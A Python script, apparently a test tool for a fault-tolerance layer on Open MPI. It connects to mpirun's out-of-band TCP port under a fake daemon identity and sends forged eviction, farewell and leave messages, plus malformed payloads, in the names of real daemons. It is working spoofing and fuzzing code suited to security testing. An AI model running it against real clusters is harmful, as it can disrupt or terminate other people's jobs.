"""Speaks the runtime's own channel to mpirun, as anybody can who reaches its port, and says what is not true.

forger.py URI N  connects to the daemon with this URI ("JOBID.VPID;tcp://ADDRESS[,...]:PORT") under the name of one that does
                 not exist, sends messages in the name of daemons that do, and prints how many. They ask for an eviction, a
                 farewell and the end of the job, and are well formed but for their tags, or are no messages at all.
"""

import re
import socket
import struct
import sys

IDENT, USER = 1, 4  # kinds of the channel's headers
PROTOCOL, GLUE, LAUNCH = 171, 172, 173  # tags: orte_glue/radixft/callbacks.hpp
EVICTED, GOODBYE, LEAVE = 23, 25, 9  # membership/messages.hpp, orte_glue/radixft/types.hpp
NOBODY = 0xffffffff
STRANGER = 4711


def header(kind, job, origin, to, tag, length):
    """mca_oob_tcp_hdr_t of Open MPI 4.1."""
    return struct.pack("=IIII", job, origin, job, to) + struct.pack("!IIIB32s3x", tag, 0, length, kind, b"radixft")


def protocol(kind, sender, to, number):
    """A message of the engine, which only lacks the right tag."""
    return struct.pack("<BBBBIIIIQQQIIQQ", 1, kind, 0, 0, sender, to, 0, 0, 1 << 40, 0, number, NOBODY, NOBODY, 0, 0) + bytes(8)


def glue(kind, sender):
    return struct.pack("<IB", sender, kind) + bytes(8)


def lies(daemons):
    """(sender, receiver, tag, content)"""
    for receiver in range(daemons):
        for sender in range(daemons):
            if sender != receiver:
                  yield sender, receiver, PROTOCOL, protocol(EVICTED, sender, receiver, 1000)
                  yield sender, receiver, PROTOCOL, protocol(GOODBYE, sender, receiver, 0)
                  yield sender, receiver, GLUE, glue(LEAVE, sender)
                  for tag in (PROTOCOL, GLUE, LAUNCH):
                      yield sender, receiver, tag, b""
                      yield sender, receiver, tag, b"\0"
                      yield sender, receiver, tag, bytes(range(256)) * 16


def main():
    name, places = sys.argv[1].split(";", 1)
    job, receiver = (int(word) for word in name.split("."))
    address, port = re.match(r"tcp://([\d.]+).*:(\d+)", places).groups()
    told = list(lies(int(sys.argv[2])))
    with socket.create_connection((address, int(port))) as link:
        about = struct.pack("!H", 1) + b"4.0.0\0"
        link.sendall(header(IDENT, job, STRANGER, receiver, 0, len(about)) + about)
        with link.makefile("rb") as answer:
            # Its own name, and that it takes us.
            assert len(answer.read(64 + len(about))) == 64 + len(about), "mpirun takes no connection"
        for sender, to, tag, content in told:
            link.sendall(header(USER, job, sender, to, tag, len(content)) + content)
    print(len(told))


main()
